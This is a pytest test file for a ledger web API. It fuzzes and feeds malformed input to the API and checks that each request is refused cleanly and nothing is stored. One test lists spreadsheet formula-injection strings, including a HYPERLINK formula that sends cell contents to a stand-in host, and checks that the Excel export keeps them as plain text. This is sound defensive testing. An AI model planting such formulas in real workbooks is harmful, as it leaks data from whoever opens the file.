"""Hostile input: whatever arrives, the answer is a 4xx problem+json, never a 5xx or a write."""

from __future__ import annotations

import base64
import json
import threading
import time
from collections.abc import Iterator
from io import BytesIO
from typing import Any
from uuid import UUID, uuid4
from zipfile import ZipFile

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from taizhang.config import Settings
from taizhang.ledger import Ledger
from tests.api.conftest import Api, make_api
from tests.api.served import served_api
from tests.api.test_views import catch_up

PROBLEM = "application/problem+json"

json_values = st.recursive(
    st.none()
    | st.booleans()
    | st.integers(min_value=-(2**70), max_value=2**70)
    | st.floats(allow_nan=False)
    | st.text(max_size=40),
    lambda children: (
        st.lists(children, max_size=5) | st.dictionaries(st.text(max_size=15), children, max_size=5)
    ),
    max_leaves=25,
)
field_names = st.sampled_from(
    ["type", "occurred_on", "data", "client_event_id", "items", "participants", "id", "x"]
)
bodies = st.one_of(
    json_values,
    st.fixed_dictionaries(
        {
            "type": st.sampled_from(["MobilizationMeetingHeld", "ProblemListed", "", "Nope"])
            | st.text(max_size=20),
            "occurred_on": st.sampled_from(
                ["2014-06-01", "0001-01-01", "9999-12-31", "2014-02-30", "-1", "", "today"]
            )
            | st.text(max_size=12),
            "data": st.dictionaries(field_names, json_values, max_size=6),
        },
        optional={"client_event_id": json_values, "extra": json_values},
    ),
)


@pytest.fixture(scope="module")
def api(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Api]:
    tmp = tmp_path_factory.mktemp("hostile")
    settings_ = Settings.from_env(
        {"TAIZHANG_DATABASE_URL": f"sqlite:///{tmp}/h.sqlite", "TAIZHANG_DATA_DIR": str(tmp)}
    )
    yield from make_api(settings_)


def stored(api: Api) -> int:
    ledger: Ledger = api.app.extensions["taizhang"].ledger
    return ledger.recorder.max_notification_id() or 0


def assert_refused(response: Any) -> None:
    assert 400 <= response.status_code < 500, (response.status_code, response.get_data()[:500])
    assert response.headers["Content-Type"].startswith(PROBLEM)
    body = response.get_json()
    assert body["status"] == response.status_code and body["title"]


@settings(max_examples=150, deadline=None, suppress_health_check=list(HealthCheck))
@given(body=bodies)
def test_fuzzed_event_bodies_are_refused_cleanly(api: Api, body: Any) -> None:
    before = stored(api)
    work = f"/api/v1/campaigns/{api.ids['campaign']}/branches/{api.ids['b1']}/events"
    accepted = False
    for path, sent in ((work, body), ("/api/v1/batches", {"items": [body, body]})):
        response = api.post(path, sent)
        if response.status_code == 201:  # a fuzzed body can be valid, and then it is stored
            accepted = True
            continue
        assert_refused(response)
    if not accepted:
        assert stored(api) == before


@pytest.mark.parametrize(
    "name, raw, content_type",
    [
        ("invalid utf-8", b'{"type": "MobilizationMeetingHeld", "data": {"x": "\xff\xfe"}}', None),
        ("not json", b"{'type': 1", None),
        ("deep nesting", b'{"data": ' + b"[" * 100_000 + b"]" * 100_000 + b"}", None),
        ("huge string", json.dumps({"type": "x" * 2_000_000, "data": {}}).encode(), None),
        ("oversized", b'{"data": "' + b"a" * (6 * 1024 * 1024) + b'"}', None),
        ("wrong content type", b'{"type": "MobilizationMeetingHeld"}', "text/plain"),
        ("json array", b"[1, 2, 3]", None),
        ("json scalar", b"42", None),
        ("huge number", b'{"type": "MobilizationMeetingHeld", "occurred_on": "2014-06-01",'
         b' "data": {"participants": 1' + b"0" * 5000 + b"}}", None),
    ],
)  # fmt: skip
def test_malformed_bodies_get_4xx_problems_and_store_nothing(
    api: Api, name: str, raw: bytes, content_type: str | None
) -> None:
    before = stored(api)
    work = f"/api/v1/campaigns/{api.ids['campaign']}/branches/{api.ids['b1']}/events"
    for path in (work, "/api/v1/batches"):
        response = api.client.post(
            path,
            data=raw,
            headers=api.headers("admin", **{"Content-Type": content_type or "application/json"}),
        )
        assert_refused(response)
    assert stored(api) == before, name


@pytest.mark.parametrize(
    "data",
    [
        {"participants": "many"},
        {"participants": -1},
        {"participants": 10**30},
        {"participants": 3, "unknown_field": 1},
        {"participants": 3, "joint_with": ["not-a-uuid"]},
        {"participants": None},
    ],
)
def test_wrong_types_and_unknown_fields_name_the_field(api: Api, data: dict[str, Any]) -> None:
    before = stored(api)
    work = f"/api/v1/campaigns/{api.ids['campaign']}/branches/{api.ids['b1']}/events"
    response = api.event(work, "MobilizationMeetingHeld", data)
    assert_refused(response)
    assert response.status_code in (400, 422)
    assert response.get_json()["errors"][0]["field"]
    assert stored(api) == before


@pytest.mark.parametrize("occurred_on", ["0000-01-01", "10000-01-01", "2014-13-01", "1e9"])
def test_dates_out_of_range_are_refused(api: Api, occurred_on: str) -> None:
    work = f"/api/v1/campaigns/{api.ids['campaign']}/branches/{api.ids['b1']}/events"
    response = api.event(
        work, "MobilizationMeetingHeld", {"participants": 3}, occurred_on=occurred_on
    )
    assert_refused(response)


def test_refusals_do_not_tell_what_exists_outside_the_scope(api: Api) -> None:
    """An integrator of b1 cannot learn whether b2 (same district, other committee) or an
    invented branch exists: both are refused the same way."""
    real = f"/api/v1/branches/{api.ids['b2']}"
    invented = f"/api/v1/branches/{uuid4()}"
    answers = [api.get(path, "integrator_b1") for path in (real, invented)]
    assert answers[0].status_code == answers[1].status_code
    assert answers[0].status_code in (403, 404)
    first, second = (a.get_json() for a in answers)
    assert first["title"] == second["title"] and first.get("type") == second.get("type")
    for path in (real, invented):
        assert api.get(path, None).status_code == 401
        response = api.client.get(path, headers={"Authorization": "Bearer not-a-token"})
        assert response.status_code == 401
        assert response.headers["Content-Type"].startswith(PROBLEM)


def test_revoked_token_is_refused(api: Api) -> None:
    token = api.token("short-lived", "office", district_id=api.ids["district"])
    path = f"/api/v1/districts/{api.ids['district']}"
    assert api.get(path, "short-lived").status_code == 200
    api.app.extensions["taizhang"].tokens.revoke("short-lived")
    response = api.client.get(path, headers={"Authorization": f"Bearer {token}"})
    assert response.status_code == 401
    assert response.headers["Content-Type"].startswith(PROBLEM)


@pytest.mark.parametrize(
    "path, field",
    [
        ("/api/v1/branches/{b1}/history?after={big}", "after"),
        ("/api/v1/branches/{b1}?version={big}", "version"),
        ("/api/v1/feed?after={big}", "after"),
        ("/api/v1/campaigns/{campaign}/branches/{b1}/progress?as_of=0001-01-01", "as_of"),
        ("/api/v1/campaigns/{campaign}/progress?as_of=9999-12-31", "as_of"),
        ("/api/v1/campaigns/{campaign}/problems?as_of=0001-01-01", "as_of"),
    ],
)
def test_numbers_and_dates_out_of_range_in_a_query_are_refused(
    api: Api, path: str, field: str
) -> None:
    """The stateful schemathesis run found the integers past 64 bits (the database driver
    cannot bind them) and a view judged on 0001-01-01 (counting days back overflows) 500s."""
    url = path.format(b1=api.ids["b1"], campaign=api.ids["campaign"], big=2**90)
    response = api.get(url)
    assert_refused(response)
    assert response.get_json()["errors"][0]["field"] == field


def test_a_position_past_the_end_of_the_log_is_refused_at_once(api: Api) -> None:
    """Waiting for a position nobody has written ends in a 503 that invites retrying forever;
    it is the caller's mistake, said at once."""
    campaign = api.ids["campaign"]
    past_the_end = stored(api) + 1_000
    started = time.monotonic()
    response = api.get(f"/api/v1/campaigns/{campaign}/progress?min_position={past_the_end}")
    assert_refused(response)
    assert response.status_code == 422
    assert response.get_json()["errors"][0]["rule"] == "within_log"
    assert time.monotonic() - started < 1.0


def test_control_characters_posted_in_text_do_not_break_the_excel_ledger(api: Api) -> None:
    """The stateful schemathesis run found the workbook a 500 once a problem's text held a
    control character (which the API rightly stores): a worksheet cannot hold one."""
    campaign, branch = api.ids["campaign"], api.ids["b1"]
    listed = api.event(
        f"/api/v1/campaigns/{campaign}/branches/{branch}/problems",
        None,
        {
            "category": "four_winds",
            "description": "会议\x01多\x1b",
            "measures": "精简会议",
            "responsible_person": "P000131",
            "responsible_person_name": "张\x1f三",
            "deadline": "2999-01-01",
        },
    )
    assert listed.status_code == 201, listed.get_json()
    catch_up(api)
    response = api.get(f"/api/v1/campaigns/{campaign}/problems.xlsx")
    assert response.status_code == 200, response.get_data()[:500]
    sheet = load_workbook(BytesIO(response.data)).active
    cells = {cell.value for row in sheet.iter_rows(min_row=4) for cell in row}
    assert "会议\ufffd多\ufffd" in cells and "张\ufffd三" in cells


@pytest.mark.parametrize(
    "body, field",
    [
        ({"description": "会议\x00多"}, "data.description"),
        ({"description": "会议多", "x\x00": 1}, "data.x\x00"),
        ({"description": "会议多", "measures": ["\x00"]}, "data.measures.0"),
    ],
)
def test_nul_characters_are_refused_and_the_views_keep_up(
    settings: Settings, body: dict[str, Any], field: str
) -> None:
    """PostgreSQL text cannot hold U+0000: a stored event with one stopped the projection
    worker for good (views stale, reads 503). It is refused at the door, on both databases."""
    for api in served_api(settings):
        campaign, branch = api.ids["campaign"], api.ids["b1"]
        problems = f"/api/v1/campaigns/{campaign}/branches/{branch}/problems"
        data = {
            "category": "four_winds",
            "measures": "精简会议",
            "responsible_person": "P000101",
            "deadline": "2999-01-01",
        }
        before = stored(api)
        for path, sent in (
            (problems, {"occurred_on": "2026-01-01", "data": {**data, **body}}),
            ("/api/v1/batches", {"items": [{"type": "ProblemListed", "occurred_on": "x",
                                            "data": {**data, **body}}]}),
        ):  # fmt: skip
            response = api.post(path, sent)
            assert_refused(response)
            assert response.status_code == 422
            error = response.get_json()["errors"][0]
            assert error["rule"] == "no_nul"
            assert error["field"].endswith(field)
        assert stored(api) == before
        listed = api.ok(api.event(problems, None, {**data, "description": "会议多"}))
        ledger = api.get(f"/api/v1/campaigns/{campaign}/problems?min_position={listed['position']}")
        assert ledger.status_code == 200, ledger.get_json()


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://example.invalid/?leak="&B5&C5,"详情")',
        "+1+1",
        "-2+3",
        "@SUM(1,2)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_text_that_looks_like_a_formula_is_exported_as_text(api: Api, text: str) -> None:
    """A problem's text starting with ``=`` was a live formula in the exported ledger (issue 16
    finding 5): whoever opened the workbook ran the poster's code. Such text is a string cell
    with the quote prefix, exactly as posted, and the sheet holds no formula at all."""
    campaign, branch = api.ids["campaign"], api.ids["b1"]
    listed = api.event(
        f"/api/v1/campaigns/{campaign}/branches/{branch}/problems",
        None,
        {
            "category": "four_winds",
            "description": text,
            "measures": text,
            "responsible_person": "p-0001",
            "deadline": "2999-01-01",
        },
    )
    assert listed.status_code == 201, listed.get_json()
    catch_up(api)
    response = api.get(f"/api/v1/campaigns/{campaign}/problems.xlsx")
    assert response.status_code == 200
    with ZipFile(BytesIO(response.data)) as package:
        sheet_xml = package.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet = load_workbook(BytesIO(response.data)).active
    # XML reads a raw CR back as LF; what matters is that the text is kept as text.
    cells = [
        cell
        for row in sheet.iter_rows(min_row=4)
        for cell in row
        if isinstance(cell.value, str) and cell.value.replace("\n", "\r") == text
    ]
    assert len(cells) == 2
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in cells)


def _hostile_reads(api: Api) -> list[str]:
    campaign, branch, district = api.ids["campaign"], api.ids["b1"], api.ids["district"]
    shapes = ["{}", '"x"', "[1,2]", "null", "1e999", "-1", "true", '{"a":1}', "1" * 30, "[[[]]]"]
    cursors = [base64.urlsafe_b64encode(s.encode()).decode() for s in shapes] + ["%%%", "AAAA"]
    paths = [f"/api/v1/branches/{branch}/timeline?after={cursor}" for cursor in cursors] + [
        f"/api/v1/campaigns/{campaign}/problems?after={cursor}" for cursor in cursors
    ]
    paths += [f"/api/v1/campaigns/{campaign}/progress?after={cursor}" for cursor in cursors]
    for moment in ("0001-01-01T00:00:00%2B14:00", "9999-12-31T23:59:59-14:00", "0001-01-01"):
        paths += [
            f"/api/v1/branches/{branch}?known_at={moment}",
            f"/api/v1/branches/{branch}/history?known_at={moment}",
            f"/api/v1/branches/{branch}/timeline?known_at={moment}",
            f"/api/v1/campaigns/{campaign}/progress?known_at={moment}",
            f"/api/v1/campaigns/{campaign}/problems?known_at={moment}",
            f"/api/v1/campaigns/{campaign}/problems.xlsx?known_at={moment}",
            f"/api/v1/campaigns/{campaign}/districts/{district}/committee-ranking?known_at={moment}",
        ]
    return paths


def test_odd_cursors_and_times_are_refused_not_failed(api: Api) -> None:
    """Issue 16 finding 8: a timeline cursor that is base64 of anything else, and
    ``known_on=0001-01-01T00:00:00+14:00`` (no UTC time exists for it), answered 500."""
    for path in _hostile_reads(api):
        response = api.get(path)
        assert_refused(response)
        if "after=" in path:
            assert response.get_json()["errors"][0]["field"] == "after", path


@pytest.mark.parametrize(
    "raw, field",
    [
        ('{"description": "a\\ud800b"}', "data.description"),
        ('{"description": "ok", "measures": ["\\udfff"]}', "data.measures.0"),
        ('{"description": "ok", "\\udc00": 1}', "data.\udc00"),
    ],
)
def test_lone_surrogates_are_refused_at_the_door(settings: Settings, raw: str, field: str) -> None:
    """Issue 16 finding 3/8: text holding a lone surrogate cannot be encoded as UTF-8, so the
    event failed inside the shared transaction. It is refused with a 422 naming the field,
    nothing is stored, and the refusal itself can be read (the field name is escaped)."""
    for api in served_api(settings):
        campaign, branch = api.ids["campaign"], api.ids["b1"]
        data = (
            '"category": "four_winds", "measures": "m", "responsible_person": "p-0001", '
            '"deadline": "2999-01-01"'
        )
        merged = "{" + data + ", " + raw[1:]
        before = stored(api)
        problems = f"/api/v1/campaigns/{campaign}/branches/{branch}/problems"
        for path, body in (
            (problems, '{"occurred_on": "2026-01-01", "data": ' + merged + "}"),
            ("/api/v1/batches", '{"items": [{"type": "ProblemListed", "occurred_on": "2026-01-01", '
             f'"path": "{problems}", "data": {merged}}}]}}'),
        ):  # fmt: skip
            response = api.client.post(
                path, data=body, content_type="application/json", headers=api.headers("admin")
            )
            assert_refused(response)
            assert response.status_code == 422
            error = response.get_json()["errors"][0]
            assert error["rule"] == "unicode_scalar"
            assert error["field"].endswith(field)
        assert stored(api) == before


def test_a_flood_of_bad_posts_fails_none_of_the_good_ones(settings: Settings) -> None:
    """Issue 16 "Isolation of writers": "A test floods bad posts beside good ones and shows
    zero failures among the good ones." Posts in one process share transactions; bad text
    from one integrator got 500 for the office's valid posts on 160 of 180 (SQLite)."""
    for api in served_api(settings):
        _flood(api)


def _flood(api: Api) -> None:
    campaign = api.ids["campaign"]
    branches = [api.ids["b1"], api.ids["b2"]]
    good: list[int] = []
    bad: list[int] = []

    def good_posts(branch: UUID) -> None:
        for n in range(15):
            response = api.event(
                f"/api/v1/campaigns/{campaign}/branches/{branch}/problems",
                None,
                {
                    "category": "four_winds",
                    "description": f"问题 {n}",
                    "measures": "措施",
                    "responsible_person": "p-0001",
                    "deadline": "2999-01-01",
                },
            )
            good.append(response.status_code)

    def bad_posts(branch: UUID) -> None:
        path = f"/api/v1/campaigns/{campaign}/branches/{branch}/problems"
        for n in range(15):
            text = "a\\ud800b" if n % 2 else "a\\u0000b"
            body = (
                '{"occurred_on": "2026-01-01", "data": {"category": "four_winds", '
                f'"description": "{text}", "measures": "m", "responsible_person": "p", '
                '"deadline": "2999-01-01"}}'
            )
            response = api.client.post(
                path, data=body, content_type="application/json", headers=api.headers("admin")
            )
            bad.append(response.status_code)

    threads = [threading.Thread(target=good_posts, args=(b,)) for b in branches] + [
        threading.Thread(target=bad_posts, args=(b,)) for b in branches
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=120)
    assert good == [201] * 30
    assert bad == [422] * 30
